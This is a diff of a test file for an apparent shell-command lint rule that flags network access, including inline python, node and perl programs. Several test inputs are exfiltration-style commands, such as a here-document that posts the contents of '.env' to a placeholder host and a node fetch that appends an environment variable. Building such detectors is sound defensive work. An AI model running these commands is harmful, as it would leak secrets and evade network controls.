@@ -10,6 +10,8 @@ ruleTester(rule, {
     'redis-cli ping',
     "bash -c 'echo ok > /dev/null'",
     { name: 'command -v only looks curl up', code: 'if command -v curl >/dev/null 2>&1; then echo has-curl; fi' },
+    { name: 'an inline program without network calls', code: "python3 -c 'import json,sys; print(json.load(sys.stdin))'" },
+    { name: 'an inline program that mentions a URL in text', code: 'node -e \'console.log("see https://example.com")\'' },
     { name: 'an allowed host', code: 'curl -s -o out.json http://localhost:3000/health', options: { allowedHosts: ['localhost'] } },
     {
       name: 'allowed hosts without a scheme, after options and their values',
@@ -26,6 +28,29 @@ ruleTester(rule, {
     { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
     { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
     { name: 'ssh behind sshpass', code: 'sshpass -p pw ssh deploy@host uptime', errors: [{ line: 1, column: 15 }] },
+    // An inline program's network call is the same access as curl's.
+    {
+      name: 'python3 -c with urllib',
+      code: 'python3 -c "import urllib.request; urllib.request.urlopen(\'https://x\')"',
+      errors: [{ messageId: 'inline', line: 1, column: 1, endColumn: 72, message: /`python3` program \(`urllib`\)/ }],
+    },
+    {
+      name: 'node -e with fetch',
+      code: 'node -e "fetch(\'https://x/\'+process.env.TASK)"',
+      errors: [{ messageId: 'inline', line: 1, column: 1 }],
+    },
+    {
+      name: 'perl -e with IO::Socket',
+      code: 'perl -MIO::Socket::INET -e \'IO::Socket::INET->new("x:80")\'',
+      errors: [{ messageId: 'inline', line: 1, column: 1 }],
+    },
+    {
+      name: 'a python here-document with requests',
+      code: "python3 - <<'PY'\nimport requests\nrequests.post('https://x', data=open('.env').read())\nPY",
+      errors: [{ messageId: 'inline', line: 1, column: 1 }],
+    },
+    { name: 'wget2', code: 'wget2 https://x', errors: [{ messageId: 'tool', line: 1, column: 1 }] },
+    { name: 'xh', code: 'xh post x.example a=b', errors: [{ messageId: 'tool', line: 1, column: 1 }] },
     { name: 'curl named by a variable', code: 'CURL="curl -fsS"\n$CURL https://x', errors: [{ line: 2, column: 1, endColumn: 16 }] },
     { name: 'wget behind torsocks', code: 'torsocks wget http://x', errors: [{ line: 1, column: 10 }] },
     { name: 'curl behind proxychains4 -q', code: 'proxychains4 -q curl http://x', errors: [{ line: 1, column: 17 }] },
